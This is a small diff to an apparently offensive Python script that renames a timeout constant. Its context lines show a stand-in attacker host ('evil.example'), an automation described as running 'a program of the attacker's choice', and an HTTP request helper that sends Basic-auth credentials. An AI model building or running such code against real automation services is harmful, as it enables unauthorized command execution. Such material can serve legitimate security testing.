@@ -10,7 +10,7 @@ from urllib.parse import urlsplit
 import websockets
 
 SITE = "http://evil.example"
-PATIENCE_S = 120
+TIMEOUT_S = 120
 UNAUTHORIZED = 401
 # An automation that would run a program of the attacker's choice at any event.
 AUTOMATION = {
@@ -27,7 +27,7 @@ def send(url, *, method="GET", headers=None, body=None, user=None):
     every = dict(headers or {})
     if user:
         every["Authorization"] = f"Basic {base64.b64encode(user.encode()).decode()}"
-    connection = http.client.HTTPConnection(parts.hostname, parts.port, timeout=PATIENCE_S)
+    connection = http.client.HTTPConnection(parts.hostname, parts.port, timeout=TIMEOUT_S)
     try:
         path = f"{parts.path}?{parts.query}" if parts.query else parts.path or "/"
         connection.request(method, path, headers=every, body=None if body is None else json.dumps(body))
